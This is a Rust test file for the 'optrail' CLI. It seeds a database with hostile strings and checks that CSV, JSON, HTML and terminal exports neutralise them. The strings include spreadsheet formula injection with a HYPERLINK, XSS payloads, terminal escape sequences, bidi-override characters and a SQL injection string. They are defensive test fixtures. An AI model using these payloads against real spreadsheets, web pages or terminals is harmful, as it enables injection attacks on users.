//! A small world whose every text was written by somebody who means harm, and what the program makes of it for
//! programs, spreadsheets, browsers and terminals.

use std::collections::BTreeSet;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};
use std::sync::OnceLock;

use optrail::evidence::leaf::{
    Ask, Call, Intervention, Leaf, Listing as ListingLeaf, Note, Parameters, RunEnd, RunKind,
    RunStart, Watch, WatchChange,
};
use optrail::model::{Action, Cause, Service, UtcMillis};
use optrail::record::PlanEntry;
use serde_json::{Value, json};

use super::answers;
use super::pen::{Asked, Came, Pen};
use super::truth::BEGIN;

const ACCOUNT: &str = "1234567890123456";
const LABEL: &str = "default";

/// What must stand nowhere but as itself: the element, attribute and link that some of the texts are.
const TEXTS: [&str; 20] = [
    "=HYPERLINK(\"http://192.0.2.1/?\"&A1,\"click\")",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1",
    "'=1",
    "one\ntwo\r\nthree\rfour",
    "\"quoted\", and 'quoted', and \\ \"\"",
    "a,b;c|d",
    "\u{1b}[31mred\u{1b}[0m\u{1b}]52;c;aGk=\u{7}\u{1b}[2J",
    "\u{202e}gnp.exe\u{202c}\u{2066}x\u{2069}",
    "zero\u{200b}width\u{feff}",
    "资源栈创建失败：配额不足",
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)><a href=javascript:alert(1)>x</a>",
    "' onmouseover='alert(1)' x='",
    "]]>&lt;!--<!-- &amp;amp; &#x3c;svg/onload=alert(1)&#x3e;",
    "</table></section><style>*{display:none}</style>",
    "'; DROP TABLE leaf; --",
    "C1\u{85}\u{9b}31m DEL\u{7f}",
];

/// All texts, and one that is longer than a spreadsheet's cell.
fn texts() -> Vec<String> {
    let long = "0123456789abcde\n".repeat(2_500);
    let texts = TEXTS.iter().map(|text| (*text).to_owned());
    texts.chain([long]).collect()
}

/// As many texts that mean nothing.
fn plain_texts() -> Vec<String> {
    (0..texts().len())
        .map(|number| format!("text {number}"))
        .collect()
}

/// One operation for each text, which stands in every place that others write.
fn write(file: &Path, texts: &[String]) {
    let mut pen = Pen::new(file, BEGIN);
    for (number, text) in texts.iter().enumerate() {
        let watch = Watch {
            service: Some(Service::Ros),
            label: Some(LABEL.to_owned()),
            region: Some("cn-hangzhou".to_owned()),
            operation: Some(id(number, text)),
            origin: Some(text.clone()),
            reason: Some(text.clone()),
            ..Watch::new(watch(number), WatchChange::Add, text, UtcMillis(pen.now))
        };
        let at = pen.now;
        pen.add(Leaf::Watch(watch), Some(at), None);
    }
    begin(&mut pen, 1, texts);
    for (number, text) in texts.iter().enumerate() {
        see(&mut pen, number, text);
    }
    end(&mut pen, 1);
    // What is missed, and why, is in words of others, too.
    begin(&mut pen, 2, texts);
    for (number, text) in texts.iter().enumerate() {
        let ask = call(Action::GetStackGroupOperation, Some(&id(number, text)));
        let body = json!({"Code": format!("Forbidden.{text}"), "Message": text});
        let came = Came::Answer {
            http_status: 403,
            body,
        };
        pen.ask(&asked(2), ask, (1, 20), came, "denied");
    }
    let note = Note {
        run: 2,
        label: Some(LABEL.to_owned()),
        account: None,
        cause: Cause::Unreachable,
        text: texts.join(" "),
        at: UtcMillis(pen.now),
    };
    let at = pen.now;
    pen.add(Leaf::Note(note), Some(at), None);
    end(&mut pen, 2);
    pen.close();
}

fn watch(number: usize) -> i64 {
    i64::try_from(number).unwrap() + 1
}

/// Ids are texts of others, too; the long one is no id that anybody would find again.
fn id(number: usize, text: &str) -> String {
    let short: String = text.chars().take(200).collect();
    format!("op-{number:02} {short}")
}

fn begin(pen: &mut Pen, run: i64, texts: &[String]) {
    pen.now += 900_000;
    let at = pen.now;
    let start = RunStart {
        program: "optrail 0.1.0".to_owned(),
        user: texts[9].clone(),
        host: texts[13].clone(),
        process_id: 1,
        endpoint: Some(texts[14].clone()),
        simulated: true,
        every_ms: Some(900_000),
        ..RunStart::new(run, RunKind::Collect, UtcMillis(at))
    };
    pen.add(Leaf::RunStart(start), Some(at), None);
    let entries: Vec<PlanEntry> = texts
        .iter()
        .enumerate()
        .map(|(number, text)| PlanEntry {
            watch: watch(number),
            service: "ros".to_owned(),
            label: LABEL.to_owned(),
            region: "cn-hangzhou".to_owned(),
            operation: id(number, text),
            ..PlanEntry::default()
        })
        .collect();
    pen.plan(run, &entries);
    let came = Came::Answer {
        http_status: 200,
        body: answers::identity(ACCOUNT, &texts[14]),
    };
    let ask = call(Action::GetCallerIdentity, None);
    pen.ask(&asked(run), ask, (1, 20), came, "ok");
}

fn end(pen: &mut Pen, run: i64) {
    let at = pen.now;
    let end = RunEnd {
        run,
        ended_at: UtcMillis(at),
        reason: "done".to_owned(),
    };
    pen.add(Leaf::RunEnd(end), Some(at), None);
}

/// An operation and the page of its one result.
fn see(pen: &mut Pen, number: usize, text: &str) {
    let operation = id(number, text);
    let body = json!({"StackGroupOperation": {
        "OperationId": operation, "Action": text, "Status": text, "StackGroupId": text,
        "StackGroupName": text, "OperationDescription": text, "CreateTime": text, "EndTime": text,
        "AdministrationRoleName": text, "DeploymentTargets": {"AccountIds": [text]}, "Field": {text: text},
        "StackGroupDriftDetectionDetail": {"DriftDetectionStatus": text, "StackGroupDriftStatus": text,
            "DriftDetectionTime": text},
    }});
    let answer = |body| Came::Answer {
        http_status: 200,
        body,
    };
    let ask = call(Action::GetStackGroupOperation, Some(&operation));
    pen.ask(&asked(1), ask, (1, 20), answer(body), "ok");
    let listing = ListingLeaf {
        run: 1,
        account: ACCOUNT.to_owned(),
        action: Action::ListStackGroupOperationResults,
        region: "cn-hangzhou".to_owned(),
        operation: operation.clone(),
        parameters: Parameters::default(),
        page_size: 50,
        watch: None,
    };
    let listing = pen.add(Leaf::Listing(listing), None, None);
    let row = |status: &str| {
        json!({"AccountId": text, "RegionId": format!("{text} {status}"), "RdFolderId": text,
            "Status": status, "StatusReason": text})
    };
    let body = json!({"PageNumber": 1, "PageSize": 50, "TotalCount": 2,
        "StackGroupOperationResults": [row("FAILED"), row(text)]});
    pen.ask(
        &asked(1),
        Ask::Page { listing, page: 1 },
        (1, 20),
        answer(body),
        "ok",
    );
    let intervention = Intervention {
        run: 1,
        account: ACCOUNT.to_owned(),
        region: "cn-hangzhou".to_owned(),
        operation,
        reason: text.to_owned(),
        ticket: Some(text.to_owned()),
        user: text.to_owned(),
        caller_arn: Some(text.to_owned()),
        status_before: Some(text.to_owned()),
        requested_at: UtcMillis(pen.now),
    };
    let at = pen.now;
    pen.add(Leaf::Intervention(intervention), Some(at), None);
}

fn asked(run: i64) -> Asked {
    Asked {
        run,
        account_id: None,
        service: "ros",
        action: "",
    }
}

fn call(action: Action, operation: Option<&str>) -> Ask {
    let id = operation.map(|id| ("OperationId".to_owned(), id.to_owned()));
    Ask::Call(Call {
        label: Some(LABEL.to_owned()),
        account: operation.map(|_| ACCOUNT.to_owned()),
        action,
        region: operation.map(|_| "cn-hangzhou".to_owned()),
        parameters: Parameters::new(id).unwrap(),
        intervention: None,
        watch: None,
    })
}

/// The files of both worlds: the one that means harm, and the same with plain texts.
fn files() -> &'static (tempfile::TempDir, [PathBuf; 2]) {
    static FILES: OnceLock<(tempfile::TempDir, [PathBuf; 2])> = OnceLock::new();
    FILES.get_or_init(|| {
        let home = tempfile::tempdir().unwrap();
        let [hostile, plain] = ["hostile.db", "plain.db"].map(|name| home.path().join(name));
        write(&hostile, &texts());
        write(&plain, &plain_texts());
        run(&hostile, &["verify"]);
        (home, [hostile, plain])
    })
}

fn command(program: &str, file: &Path, arguments: &[&str]) -> Command {
    let home = file.parent().unwrap();
    let mut command = Command::new(program);
    command
        .env_clear()
        .env("PATH", std::env::var_os("PATH").unwrap_or_default())
        .env("HOME", home)
        .env("XDG_CONFIG_HOME", home)
        .env("XDG_STATE_HOME", home)
        .env("XDG_DATA_HOME", home)
        .env("OPTRAIL_DB", file)
        .args(arguments);
    command
}

fn run(file: &Path, arguments: &[&str]) -> Output {
    let program = env!("CARGO_BIN_EXE_optrail");
    let output = command(program, file, arguments).output().unwrap();
    let said = String::from_utf8_lossy(&output.stderr);
    assert!(output.status.success(), "{arguments:?}: {said}");
    output
}

fn hostile(arguments: &[&str]) -> String {
    String::from_utf8(run(&files().1[0], arguments).stdout).unwrap()
}

/// Rows of a CSV as objects of texts.
fn csv_rows(text: &str) -> Vec<Value> {
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    let rows = reader.deserialize::<std::collections::BTreeMap<String, String>>();
    rows.map(|row| json!(row.unwrap())).collect()
}

/// Columns of rows that must hold the texts exactly, in the order of operations.
const EXACT: [(&str, &[&str]); 3] = [
    (
        "operations",
        &["kind", "resource_id", "resource_name", "status_raw"],
    ),
    (
        "results",
        &["status_reason", "target_account_id", "folder_id"],
    ),
    ("watches", &["origin", "reason", "added_by"]),
];

#[test]
fn exports_are_exact() {
    for (dataset, columns) in EXACT {
        let of_csv = csv_rows(&hostile(&["export", dataset]));
        let of_json: Value =
            serde_json::from_str(&hostile(&["export", dataset, "--format", "json"])).unwrap();
        let of_json = of_json.as_array().unwrap();
        assert_eq!(of_csv.len(), of_json.len(), "{dataset}");
        for column in columns {
            for rows in [&of_csv, of_json] {
                let shown: BTreeSet<&str> = rows
                    .iter()
                    .filter_map(|row| row[*column].as_str())
                    .collect();
                let texts = texts();
                let wanted: BTreeSet<&str> = texts.iter().map(String::as_str).collect();
                assert_eq!(shown, wanted, "{dataset}.{column}");
            }
        }
    }
}

/// What an XML document is made of: its elements and attributes with what refers to elsewhere, and its text.
fn made_of(html: &str) -> (BTreeSet<String>, String) {
    use quick_xml::events::{BytesStart, Event};

    let mut reader = quick_xml::Reader::from_str(html);
    let (mut parts, mut text) = (BTreeSet::new(), String::new());
    let element = |element: &BytesStart<'_>, parts: &mut BTreeSet<String>| {
        let name = element.name().as_ref().to_owned();
        for attribute in element.attributes() {
            let attribute = attribute.unwrap();
            let key = attribute.key.as_ref().to_owned();
            let value = attribute.value.to_string();
            assert!(!key.starts_with("on"), "{name} {key}={value}");
            let is_link = ["href", "src", "action", "srcset", "style"].contains(&key.as_str());
            let is_away = is_link && !value.starts_with('#') && !value.starts_with("data:,");
            parts.insert(match is_away {
                true => format!("{name} {key}={value}"),
                false => format!("{name} {key}"),
            });
        }
        parts.insert(name);
    };
    loop {
        match reader.read_event().expect("well-formed") {
            Event::Start(start) | Event::Empty(start) => element(&start, &mut parts),
            Event::Text(part) => text.push_str(&part),
            Event::GeneralRef(name) => match name.resolve_char_ref().unwrap() {
                Some(c) => text.push(c),
                None => text.push_str(match name.as_ref() {
                    "lt" => "<",
                    "gt" => ">",
                    "amp" => "&",
                    "quot" => "\"",
                    "apos" => "'",
                    other => panic!("the reference {other:?}"),
                }),
            },
            Event::Comment(_) | Event::CData(_) | Event::PI(_) => panic!("not of a page"),
            Event::Eof => break,
            Event::End(_) | Event::Decl(_) | Event::DocType(_) => {}
        }
    }
    (parts, text)
}

#[test]
fn a_page_is_made_of_nothing_that_others_wrote() {
    let report = [
        "report",
        "compliance",
        "--format",
        "html",
        "--verify",
        "quick",
    ];
    let pages = files().1.each_ref().map(|file| {
        let page = String::from_utf8(run(file, &report).stdout).unwrap();
        // `.ci/browser` opens it, too.
        if let Some(directory) = std::env::var_os("OPTRAIL_PAGE_DIR") {
            let name = file.file_stem().unwrap().to_str().unwrap();
            let copy = Path::new(&directory).join(format!("report-{name}.html"));
            std::fs::write(copy, &page).unwrap();
        }
        made_of(&page)
    });
    let [(hostile, text), (plain, _)] = pages;
    let made: Vec<_> = hostile.difference(&plain).collect();
    assert!(made.is_empty(), "{made:?}");
    assert!(!hostile.contains("script"));
    // Texts without characters that have to be named stand there as they are.
    for wanted in [TEXTS[0], TEXTS[12], TEXTS[13], TEXTS[14], TEXTS[17]] {
        assert!(text.contains(wanted), "{wanted}");
    }
    let unsafe_one = text.chars().find(|c| is_unsafe(*c));
    assert_eq!(unsafe_one, None);
}

/// Whether a terminal or a page may act on a character in place of showing it; written anew here.
fn is_unsafe(c: char) -> bool {
    let is_control = c.is_control() && c != '\n';
    let is_of_direction = matches!(c, '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{feff}');
    is_control || is_of_direction
}

/// What people look at.
fn looks() -> Vec<Vec<String>> {
    let words = |line: &str| line.split(' ').map(str::to_owned).collect();
    let mut looks: Vec<Vec<String>> = [
        "status",
        "watch list",
        "export operations --format table",
        "export results --format table",
        "export interventions --format table",
        "export gaps --format table",
        "export unknowns --format table",
    ]
    .map(words)
    .into();
    let texts = texts();
    let ids = texts
        .iter()
        .enumerate()
        .map(|(number, text)| id(number, text));
    looks.extend(ids.map(|id| vec!["show".to_owned(), id]));
    looks
}

#[test]
fn fault_71_a_pipe_gets_no_character_that_a_terminal_obeys() {
    for arguments in looks() {
        let arguments: Vec<&str> = arguments.iter().map(String::as_str).collect();
        let shown = hostile(&arguments);
        let found = shown.chars().find(|c| is_unsafe(*c));
        assert_eq!(found, None, "{arguments:?}");
    }
}

/// The same to a terminal. `script` makes one; it belongs to every Linux that people log in to.
#[test]
#[cfg(target_os = "linux")]
fn fault_71_a_terminal_gets_no_character_that_it_obeys() {
    let quoted = |text: &str| format!("'{}'", text.replace('\'', r"'\''"));
    for arguments in looks() {
        let line: Vec<String> = arguments.iter().map(|word| quoted(word)).collect();
        let line = format!(
            "{} --color never {}",
            env!("CARGO_BIN_EXE_optrail"),
            line.join(" ")
        );
        let output = command("script", &files().1[0], &["-qec", &line, "/dev/null"])
            .env("TERM", "dumb")
            .output()
            .expect("script, of util-linux, makes a terminal");
        assert!(output.status.success(), "{arguments:?}: {}", output.status);
        let shown = String::from_utf8(output.stdout).unwrap();
        // A terminal has line ends of its own.
        let shown = shown.replace("\r\n", "\n");
        assert!(!shown.is_empty());
        let found = shown.chars().find(|c| is_unsafe(*c));
        assert_eq!(found, None, "{arguments:?}");
    }
}

#[test]
fn fault_70_a_spreadsheet_runs_nothing_and_nothing_is_lost() {
    let starts = ['=', '+', '-', '@', '\t', '\r'];
    for (dataset, columns) in EXACT {
        let rows = csv_rows(&hostile(&["export", dataset, "--spreadsheet-safe"]));
        for (_, cell) in rows.iter().flat_map(|row| row.as_object().unwrap()) {
            let cell = cell.as_str().unwrap();
            let is_number = cell.parse::<i64>().is_ok();
            assert!(
                is_number || !cell.starts_with(starts),
                "{dataset}: {cell:?}"
            );
        }
        for column in columns {
            let exact: BTreeSet<String> = rows.iter().map(|row| unmarked(row, column)).collect();
            assert_eq!(exact, texts().into_iter().collect(), "{dataset}.{column}");
        }
    }
}

/// A cell as it was before it was made safe, as the column `_escaped` tells.
fn unmarked(row: &Value, column: &str) -> String {
    let cell = row[column].as_str().unwrap();
    let escaped = row["_escaped"].as_str().unwrap();
    let names: Vec<String> = match escaped {
        "" => Vec::new(),
        names => serde_json::from_str(names).unwrap(),
    };
    match names.iter().any(|name| name == column) {
        true => cell.strip_prefix('\'').unwrap().to_owned(),
        false => cell.to_owned(),
    }
}
